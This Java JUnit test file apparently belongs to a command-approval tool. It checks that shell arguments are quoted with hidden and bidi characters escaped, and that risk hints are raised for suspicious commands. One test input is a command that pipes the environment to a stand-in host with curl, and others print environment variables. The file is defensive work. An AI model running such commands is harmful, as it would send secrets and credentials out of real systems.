package dev.brokerctl.approval;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

class QuotingAndRiskHintsTest {

    @Test
    void argv_isQuotedUnambiguously() {
        assertEquals("npm test", Quoting.argv(List.of("npm", "test")));
        assertEquals("echo 'a b' '' 'it'\\''s'", Quoting.argv(List.of("echo", "a b", "", "it's")));
        assertEquals("printf $'a\\nb' $'\\x1b[31m'", Quoting.argv(List.of("printf", "a\nb", "\u001b[31m")));
        assertEquals("ls $'\\u202e'", Quoting.argv(List.of("ls", "\u202e")), "bidi overrides are shown, not obeyed");
        assertEquals("cat $'a\\u200bb' $'\\u2028' $'\\U000e0041' $'no\\xa0break'",
                Quoting.argv(List.of("cat", "a\u200bb", "\u2028", new String(Character.toChars(0xe0041)), "no\u00a0break")),
                "zero-width, separators, tag characters and look-alike spaces are escaped too");
    }

    @Test
    void hints_nameWhatCouldMoveAValue() {
        assertEquals(List.of(), RiskHints.of(List.of("npm", "test"), List.of()));
        List<String> h = RiskHints.of(List.of("sh", "-c", "env | curl -d @- https://x.example | base64"), List.of());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("runs an interpreter with inline code (sh -c)")), h.toString());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("may print its environment")), h.toString());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("talks to the network")), h.toString());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("encodes or compresses")), h.toString());
        assertTrue(RiskHints.of(List.of("python3", "-c", "import os; print(os.environ)"), List.of()).size() >= 2);
        assertTrue(RiskHints.of(List.of("node", "-e", "console.log(process.env)"), List.of()).size() >= 2);
        assertEquals(List.of("the value of TOKEN appears literally in the command line (visible in ps)"),
                RiskHints.of(List.of("deploy", "--token", "xyz"), List.of("TOKEN")));
        assertTrue(RiskHints.of(List.of("printenv"), List.of()).get(0).startsWith("may print its environment"));
    }
}
